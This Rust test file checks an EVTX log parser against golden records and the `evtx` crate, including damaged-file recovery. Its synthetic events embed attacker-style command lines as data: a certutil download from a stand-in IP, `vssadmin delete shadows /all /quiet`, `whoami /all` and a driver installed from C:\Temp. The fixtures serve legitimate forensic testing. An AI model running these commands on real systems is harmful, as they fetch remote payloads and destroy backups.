//! Event log files of our own: what they decode to, and whether the `evtx` crate reads the same in the same bytes.
//!
//! The files are made by `support/evtx_writer.rs`; `golden/evtx/NAME.jsonl` holds their records, and errors behind them.
//! `YAGURA_BLESS=1` writes what is decoded now, and the files; look at the difference before committing it.

#![allow(clippy::unwrap_used, clippy::indexing_slicing, reason = "helpers of tests fail as tests do")]

mod support;

#[path = "support/evtx_same.rs"]
mod evtx_same;
#[path = "support/evtx_writer.rs"]
mod evtx_writer;

use std::collections::BTreeMap;
use std::fs;
use std::path::{Path, PathBuf};

use evtx_writer::{CHUNK_BYTES, Data, Event, FILE_HEADER_BYTES, Value, dirty, file, kind};
use model::Record;
use sources::{ErrorCode, Place};

const SYSMON: Event = Event {
    record: 0,
    number: None,
    time: "2026-05-07T01:02:03.456789Z",
    provider: "Microsoft-Windows-Sysmon",
    provider_guid: Some("5770385f-c22a-43e0-bf4c-06f5698ffbd9"),
    event_id: 1,
    qualifiers: None,
    version: 5,
    level: 4,
    task: 1,
    opcode: 0,
    keywords: 0x8000_0000_0000_0000,
    activity: None,
    process: 3544,
    thread: 4264,
    channel: "Microsoft-Windows-Sysmon/Operational",
    computer: "ws07.example.jp",
    user: Some("S-1-5-18"),
    data: Data::None,
    plain: false,
};

const SECURITY: Event = Event {
    provider: "Microsoft-Windows-Security-Auditing",
    provider_guid: Some("54849625-5478-4994-a5ba-3e3b0328c30d"),
    version: 2,
    level: 0,
    keywords: 0x8020_0000_0000_0000,
    process: 4,
    channel: "Security",
    user: None,
    ..SYSMON
};

/// Sysmon's "Process Create", with the fields of its schema.
fn process_create(record: u64, image: &str, command_line: &str) -> Event {
    let guid = Value::guid("0197231e-5645-6929-c410-000000000d00");
    let fields = vec![
        ("RuleName", Value::text("-")),
        ("UtcTime", Value::text("2026-05-07 01:02:03.450")),
        ("ProcessGuid", guid.clone()),
        ("ProcessId", Value::u32(8752)),
        ("Image", Value::text(image)),
        ("FileVersion", Value::text("10.0.26100.1 (WinBuild.160101.0800)")),
        ("CommandLine", Value::text(command_line)),
        ("CurrentDirectory", Value::text("C:\\ProgramData\\")),
        ("User", Value::text("EXAMPLE\\sato")),
        ("LogonGuid", guid.clone()),
        ("LogonId", Value::hex64(0x3e7)),
        ("TerminalSessionId", Value::u32(2)),
        ("IntegrityLevel", Value::text("High")),
        ("Hashes", Value::text("SHA256=0000000000000000000000000000000000000000000000000000000000000000")),
        ("ParentProcessGuid", guid),
        ("ParentProcessId", Value::u32(4012)),
        ("ParentImage", Value::text("C:\\Windows\\explorer.exe")),
        ("ParentCommandLine", Value::text("C:\\Windows\\explorer.exe")),
    ];
    Event { record, data: Data::Named(fields), ..SYSMON }
}

fn sysmon_process() -> Vec<u8> {
    file(&[
        process_create(571_146, "C:\\Windows\\System32\\cmd.exe", "cmd.exe /c whoami /all"),
        process_create(
            571_147,
            "C:\\Windows\\System32\\certutil.exe",
            "certutil -urlcache -f http://192.0.2.7/a b",
        ),
        process_create(571_148, "C:\\業務\\集計.exe", "\"C:\\業務\\集計.exe\" 令和8年度 \u{20bb7}野家"),
    ])
}

fn security_logon() -> Vec<u8> {
    let logon = vec![
        ("SubjectUserSid", Value::sid("S-1-0-0")),
        ("SubjectUserName", Value::text("-")),
        ("SubjectLogonId", Value::hex64(0)),
        ("TargetUserSid", Value::sid("S-1-5-21-1004336348-1177238915-682003330-1104")),
        ("TargetUserName", Value::text("suzuki")),
        ("TargetDomainName", Value::text("EXAMPLE")),
        ("TargetLogonId", Value::hex64(0x2a_3b4c)),
        ("LogonType", Value::u32(3)),
        ("LogonProcessName", Value::text("NtLmSsp ")),
        ("LogonGuid", Value::guid("00000000-0000-0000-0000-000000000000")),
        ("ProcessId", Value::raw(kind::SIZE, 0u64.to_le_bytes())),
        ("IpAddress", Value::text("192.0.2.45")),
        ("IpPort", Value::text("50122")),
        ("ImpersonationLevel", Value::text("%%1833")),
    ];
    let process = vec![
        ("SubjectUserSid", Value::sid("S-1-5-18")),
        ("SubjectUserName", Value::text("FS01$")),
        ("SubjectDomainName", Value::text("EXAMPLE")),
        ("SubjectLogonId", Value::hex64(0x3e7)),
        ("NewProcessId", Value::raw(kind::SIZE, 0x1a2cu64.to_le_bytes())),
        ("NewProcessName", Value::text("C:\\Windows\\System32\\vssadmin.exe")),
        ("TokenElevationType", Value::text("%%1936")),
        ("ProcessId", Value::raw(kind::SIZE, 0x4bcu64.to_le_bytes())),
        ("CommandLine", Value::text("vssadmin delete shadows /all /quiet")),
        ("ParentProcessName", Value::text("C:\\Windows\\System32\\cmd.exe")),
        ("MandatoryLabel", Value::sid("S-1-16-16384")),
    ];
    let activity = Some("9d2c1c5b-7f0f-4c83-8a5e-2f2f3d9a1b11");
    file(&[
        Event { record: 901, event_id: 4624, task: 12544, activity, data: Data::Named(logon), ..SECURITY },
        Event { record: 902, event_id: 4688, task: 13312, data: Data::Named(process), ..SECURITY },
    ])
}

/// The one event of the Security log whose data stands in `UserData`.
fn log_cleared() -> Vec<u8> {
    let who = vec![
        ("SubjectUserSid", Value::sid("S-1-5-21-1004336348-1177238915-682003330-500")),
        ("SubjectUserName", Value::text("Administrator")),
        ("SubjectDomainName", Value::text("EXAMPLE")),
        ("SubjectLogonId", Value::hex64(0x1_2345)),
    ];
    file(&[Event {
        record: 1,
        provider: "Microsoft-Windows-Eventlog",
        provider_guid: Some("fc65ddd8-d6ef-4962-83d5-6e5cfe9ce148"),
        event_id: 1102,
        task: 104,
        data: Data::User("LogFileCleared", who),
        ..SECURITY
    }])
}

/// Events of the old logging interface: no names, and qualifiers beside the id.
fn unnamed() -> Vec<u8> {
    let old = Event {
        provider: "Service Control Manager",
        provider_guid: None,
        qualifiers: Some(16384),
        version: 0,
        user: None,
        channel: "System",
        event_id: 7045,
        ..SYSMON
    };
    let texts = |texts: &[&str]| Data::Unnamed(texts.iter().map(|text| Value::text(text)).collect());
    file(&[
        Event {
            record: 10,
            data: texts(&["WinRing0", "", "C:\\Temp\\w.sys", "demand start"]),
            ..old.clone()
        },
        Event { record: 11, data: texts(&["one only"]), ..old.clone() },
        Event {
            record: 12,
            data: Data::Unnamed(vec![Value::raw(kind::BINARY, [0xDE, 0xAD])]),
            ..old.clone()
        },
        Event { record: 13, data: Data::None, ..old },
    ])
}

fn every_value() -> Vec<u8> {
    let fields = vec![
        ("Null", Value::null()),
        ("Text", Value::text("日本語 \u{1f980}")),
        ("EmptyText", Value::text("")),
        ("Ansi", Value::raw(kind::ANSI, *b"plain")),
        ("Int8", Value::raw(kind::INT8, (-1i8).to_le_bytes())),
        ("UInt8", Value::raw(kind::UINT8, [255])),
        ("Int16", Value::raw(kind::INT16, i16::MIN.to_le_bytes())),
        ("UInt16", Value::raw(kind::UINT16, u16::MAX.to_le_bytes())),
        ("Int32", Value::raw(kind::INT32, i32::MIN.to_le_bytes())),
        ("UInt32", Value::raw(kind::UINT32, u32::MAX.to_le_bytes())),
        ("Int64", Value::raw(kind::INT64, i64::MIN.to_le_bytes())),
        ("UInt64", Value::raw(kind::UINT64, u64::MAX.to_le_bytes())),
        ("Real32", Value::raw(kind::REAL32, 1.5f32.to_le_bytes())),
        ("Real64", Value::raw(kind::REAL64, (-0.1f64).to_le_bytes())),
        ("True", Value::raw(kind::BOOL, 1u32.to_le_bytes())),
        ("False", Value::raw(kind::BOOL, 0u32.to_le_bytes())),
        ("Binary", Value::raw(kind::BINARY, [0x00, 0x7F, 0xFF])),
        ("Guid", Value::guid("12345678-9abc-def0-1234-56789abcdef0")),
        ("Size4", Value::raw(kind::SIZE, 0x10u32.to_le_bytes())),
        ("Size8", Value::raw(kind::SIZE, 0x1_0000_0000u64.to_le_bytes())),
        ("FileTime", Value::filetime("1999-12-31T23:59:59.999999Z")),
        ("SystemTime", systemtime()),
        ("Sid", Value::sid("S-1-5-32-544")),
        ("Hex32", Value::hex32(0xC000_006D)),
        ("Hex64", Value::hex64(0xFFFF_FFFF_FFFF_FFFF)),
    ];
    file(&[Event { record: 1, event_id: 42, data: Data::Named(fields), ..Event::default() }])
}

fn systemtime() -> Value {
    let parts: [u16; 8] = [2026, 5, 4, 7, 1, 2, 3, 456];
    Value::raw(kind::SYSTIME, parts.iter().flat_map(|part| part.to_le_bytes()).collect::<Vec<u8>>())
}

fn arrays() -> Vec<u8> {
    let numbers = |kind: u8, width: usize| {
        let one = |number: u8| {
            let mut bytes = vec![0; width];
            bytes[0] = number;
            Value::raw(kind, bytes)
        };
        Value::array(&[one(1), one(2), one(3)])
    };
    let fields = vec![
        ("Texts", Value::array(&[Value::text("a"), Value::text("二"), Value::text("c d")])),
        ("OneText", Value::array(&[Value::text("only")])),
        ("NoText", Value::array(&[])),
        ("Int8s", numbers(kind::INT8, 1)),
        ("UInt16s", numbers(kind::UINT16, 2)),
        ("UInt32s", numbers(kind::UINT32, 4)),
        ("UInt64s", numbers(kind::UINT64, 8)),
        ("Hex32s", numbers(kind::HEX32, 4)),
        ("Hex64s", numbers(kind::HEX64, 8)),
        ("Bools", Value::array(&[1u32, 0, 1].map(|flag| Value::raw(kind::BOOL, flag.to_le_bytes())))),
        ("Guids", Value::array(&vec![Value::guid("12345678-9abc-def0-1234-56789abcdef0"); 2])),
        (
            "FileTimes",
            Value::array(&[Value::filetime("2026-01-01T00:00:00Z"), Value::filetime("2026-01-02T00:00:00Z")]),
        ),
    ];
    file(&[Event { record: 1, event_id: 43, data: Data::Named(fields), ..Event::default() }])
}

/// Forms that need more care: texts that the template fixes, entities, and a record without any template.
fn fixed() -> Vec<u8> {
    let texts = Data::Fixed(vec![("Command", "a & b < c"), ("Empty", ""), ("Plain", "nothing special")]);
    file(&[
        Event { record: 1, event_id: 44, data: texts.clone(), ..Event::default() },
        Event { record: 2, event_id: 44, data: texts, plain: true, ..Event::default() },
    ])
}

/// How many events [`many`] has: more than fit into three chunks.
const MANY: u64 = 250;

fn many() -> Vec<Event> {
    let event = |record: u64| {
        process_create(record, "C:\\Windows\\System32\\cmd.exe", &format!("cmd.exe /c echo {record}"))
    };
    (1..=MANY).map(event).collect()
}

/// An export: its records are numbered from 1 in their headers, and keep their EventRecordID.
fn exported() -> Vec<u8> {
    let numbered = |number: u64| {
        let event = process_create(571_145 + number, "C:\\Windows\\System32\\cmd.exe", "cmd.exe /c whoami");
        Event { number: Some(number), ..event }
    };
    file(&[numbered(1), numbered(2)])
}

type Maker = fn() -> Vec<u8>;

const FILES: [(&str, Maker); 8] = [
    ("sysmon_process", sysmon_process),
    ("security_logon", security_logon),
    ("log_cleared", log_cleared),
    ("unnamed", unnamed),
    ("every_value", every_value),
    ("arrays", arrays),
    ("fixed", fixed),
    ("exported", exported),
];

fn folder() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/golden/evtx")
}

fn rendered(bytes: &[u8]) -> String {
    let (records, errors) = support::read(bytes, &support::options());
    let mut text: String =
        records.iter().map(|(number, record)| support::to_json(*number, record) + "\n").collect();
    for error in errors {
        text += &format!("{}\n", serde_json::to_string(&error).unwrap());
    }
    text
}

#[test]
fn the_files_decode_to_the_golden_records() {
    let mut differences = Vec::new();
    for (name, make) in FILES {
        let found = rendered(&make());
        let path = folder().join(format!("{name}.jsonl"));
        if std::env::var_os("YAGURA_BLESS").is_some() {
            fs::write(&path, &found).unwrap();
        }
        let expected = fs::read_to_string(&path).unwrap_or_default();
        let (mut expected, mut found) = (expected.lines(), found.lines());
        loop {
            match (expected.next(), found.next()) {
                (None, None) => break,
                (before, now) if before == now => {}
                (before, now) => {
                    differences.push(format!("{name}:\n  expected {before:?}\n  found    {now:?}"))
                }
            }
        }
    }
    assert!(differences.is_empty(), "{}", differences.join("\n"));
}

#[test]
fn the_evtx_crate_reads_the_same() {
    for (name, make) in FILES {
        let bytes = make();
        let (records, errors) = support::read(&bytes, &support::options());
        assert_eq!(errors, [], "{name}");
        let ours: BTreeMap<u64, Record> = records.into_iter().collect();
        let mut parser = evtx::EvtxParser::from_buffer(bytes).unwrap();
        let mut seen = 0;
        let id = |record: &serde_json::Value| record["Event"]["System"]["EventRecordID"].as_u64();
        for record in parser.records_json_value() {
            let record = record.unwrap();
            seen += 1;
            let own = &ours[&id(&record.data).unwrap_or(record.event_record_id)];
            for (field, theirs) in evtx_same::expected(&record.data) {
                // 4688 calls the creating process so; Sigma's name for it is another.
                if own.log_source.service == "security" && field == "ProcessId" {
                    continue;
                }
                let own = own.get(&format!("Data.{field}")).or_else(|| own.get(&field));
                let same = evtx_same::same(own, theirs);
                assert!(same, "{name} {}: {field}: {own:?} {theirs}", record.event_record_id);
            }
        }
        assert_eq!(seen, ours.len(), "{name}");
    }
}

#[test]
fn a_whole_file_has_no_errors_and_every_record() {
    let (records, errors) = support::read(&file(&many()), &support::options());
    assert_eq!((records.len() as u64, errors), (MANY, vec![]));
}

/// What is left of a damaged copy of [`many`]: the numbers of the records, which must say what they said before, and
/// what was reported.
fn left_of(bytes: &[u8]) -> (Vec<u64>, Vec<(Option<Place>, ErrorCode)>) {
    let (whole, _) = support::read(&file(&many()), &support::options());
    let whole: BTreeMap<u64, Record> = whole.into_iter().collect();
    let (records, errors) = support::read(bytes, &support::options());
    for (number, record) in &records {
        assert_eq!(record, &whole[number], "record {number}");
    }
    let errors = errors.into_iter().map(|error| (error.place, error.code)).collect();
    (records.into_iter().map(|(number, _)| number).collect(), errors)
}

/// Where the records of a whole file lie.
fn places(bytes: &[u8]) -> BTreeMap<u64, usize> {
    let signature = memchr::memmem::find_iter(bytes, b"\x2a\x2a\0\0");
    let number = |at: usize| u64::from_le_bytes(*bytes[at + 8..].first_chunk().unwrap());
    signature.map(|at| (number(at), at)).collect()
}

#[test]
fn a_copy_made_while_the_log_was_in_use_is_read_whole() {
    let (numbers, errors) = left_of(&dirty(file(&many())));
    assert_eq!((numbers.len() as u64, errors), (MANY, vec![]));
}

#[test]
fn a_file_that_ends_within_a_chunk_is_read_up_to_its_last_whole_record() {
    let mut bytes = file(&many());
    let end = places(&bytes)[&100] + 50;
    bytes.truncate(end);
    let (numbers, errors) = left_of(&bytes);
    assert_eq!(numbers, (1..100).collect::<Vec<u64>>());
    assert_eq!(errors[0], (Some(Place::Offset(end as u64)), ErrorCode::Truncated));
    assert!(errors[1..].iter().all(|(_, code)| *code == ErrorCode::DamagedRecord), "{errors:?}");
}

#[test]
fn a_file_that_ends_between_two_chunks_that_its_header_counts_is_reported() {
    let mut bytes = file(&many());
    bytes.truncate(FILE_HEADER_BYTES + 2 * CHUNK_BYTES);
    let (numbers, errors) = left_of(&bytes);
    assert!((numbers.len() as u64) < MANY);
    assert_eq!(errors, [(chunk_place(2), ErrorCode::Truncated)]);
    assert_eq!(left_of(&dirty(bytes)).1, vec![]);
}

#[test]
fn an_overwritten_record_takes_no_other_with_it() {
    let mut bytes = file(&many());
    let places = places(&bytes);
    bytes[places[&40] + 4..places[&41]].fill(0xAA);
    let (numbers, errors) = left_of(&bytes);
    assert_eq!(numbers, (1..=MANY).filter(|number| *number != 40).collect::<Vec<u64>>());
    assert_eq!(
        errors,
        [
            (Some(Place::Offset(FILE_HEADER_BYTES as u64)), ErrorCode::DamagedPart),
            (Some(Place::Offset(places[&40] as u64)), ErrorCode::DamagedRecord)
        ]
    );
}

/// [`many`] with chunks of zeros in the place of some of its chunks, and the numbers of the records that are left.
fn emptied(chunks: std::ops::Range<usize>) -> (Vec<u8>, Vec<u64>) {
    let mut bytes = file(&many());
    let lost = FILE_HEADER_BYTES + chunks.start * CHUNK_BYTES..FILE_HEADER_BYTES + chunks.end * CHUNK_BYTES;
    let left = places(&bytes).into_iter().filter(|(_, at)| !lost.contains(at)).map(|(number, _)| number);
    let left: Vec<u64> = left.collect();
    assert!((left.len() as u64) < MANY);
    bytes[lost].fill(0);
    (bytes, left)
}

/// Where the chunk of that number begins, as a place of an error.
fn chunk_place(number: usize) -> Option<Place> {
    Some(Place::Offset((FILE_HEADER_BYTES + number * CHUNK_BYTES) as u64))
}

#[test]
fn a_chunk_of_zeros_among_the_others_is_passed_over_and_reported() {
    let (bytes, left) = emptied(1..2);
    assert_eq!(left_of(&bytes), (left.clone(), vec![(chunk_place(1), ErrorCode::DamagedPart)]));
    // Whatever the header says: chunks are written one after the other.
    assert_eq!(left_of(&dirty(bytes)), (left, vec![(chunk_place(1), ErrorCode::DamagedPart)]));
}

#[test]
fn chunks_of_zeros_that_the_header_counts_are_reported_once() {
    let chunks = (file(&many()).len() - FILE_HEADER_BYTES) / CHUNK_BYTES;
    let (bytes, left) = emptied(chunks - 2..chunks);
    assert_eq!(left_of(&bytes), (left, vec![(chunk_place(chunks - 2), ErrorCode::DamagedPart)]));
    let (_, errors) = support::read(&bytes, &support::options());
    let expected = format!(
        "2 chunks from here on are empty though the file's header counts {chunks}; their records are lost; copy the \
         file again if you can"
    );
    assert_eq!(errors[0].reason, expected);
}

#[test]
fn space_set_aside_for_later_chunks_is_no_damage() {
    let mut bytes = file(&many());
    bytes.resize(bytes.len() + 3 * CHUNK_BYTES, 0);
    assert_eq!(left_of(&bytes).1, vec![]);
    // Of a log in use, the header does not say how far it was written.
    assert_eq!(left_of(&dirty(bytes)).1, vec![]);
    let mut one = file(&many()[..1]);
    one[FILE_HEADER_BYTES..].fill(0);
    assert_eq!(left_of(&dirty(one)).1, vec![]);
}

#[test]
fn a_damaged_header_s_count_is_not_believed() {
    let chunks = (file(&many()).len() - FILE_HEADER_BYTES) / CHUNK_BYTES;
    let (mut bytes, left) = emptied(chunks - 1..chunks);
    bytes[42] = 99;
    assert_eq!(left_of(&bytes), (left, vec![]));
}

#[test]
fn a_file_without_its_header_is_read_by_its_chunks() {
    let bytes = file(&many());
    let (numbers, errors) = left_of(&bytes[FILE_HEADER_BYTES..]);
    assert_eq!(numbers.len() as u64, MANY);
    assert_eq!(errors, [(Some(Place::Offset(0)), ErrorCode::DamagedPart)]);
}

/// The digest of a record is of its bytes: the spans of the framer are exactly the records of the writer.
#[test]
fn records_are_framed_from_their_signature_to_their_second_size() {
    use sources::evtx::ChunkFramer;
    use sources::{Block, Errors, Framer};
    let bytes = file(&many());
    let (mut framer, mut block, mut errors) = (ChunkFramer::new(), Block::default(), Errors::new("test"));
    let (mut input, mut begin, mut count) = (&bytes[..], FILE_HEADER_BYTES, 0);
    while framer.next(&mut input, &mut block, &mut errors).unwrap() {
        for span in &block.spans {
            let raw = block.raw(*span);
            let at = begin + span.start as usize;
            assert_eq!(raw, &bytes[at..at + span.len as usize]);
            assert!(raw.starts_with(b"\x2a\x2a\0\0") && raw.ends_with(&span.len.to_le_bytes()));
            count += 1;
        }
        begin += block.bytes.len();
    }
    assert_eq!(count, MANY);
}

/// The small files lie beside their records, for people who want to see one and for the fuzzer to begin with.
#[test]
fn the_writer_writes_the_committed_files() {
    for (name, make) in FILES {
        let path = folder().join(format!("{name}.evtx"));
        if std::env::var_os("YAGURA_BLESS").is_some() {
            fs::write(&path, without_end(make())).unwrap();
        }
        assert!(fs::read(&path).unwrap() == without_end(make()), "{}", path.display());
    }
}

/// Without the zeros at its end, which say nothing and make a fuzzer slow.
fn without_end(mut bytes: Vec<u8>) -> Vec<u8> {
    let used = bytes.iter().rposition(|byte| *byte != 0).map_or(0, |last| last + 1);
    bytes.truncate(used);
    bytes
}
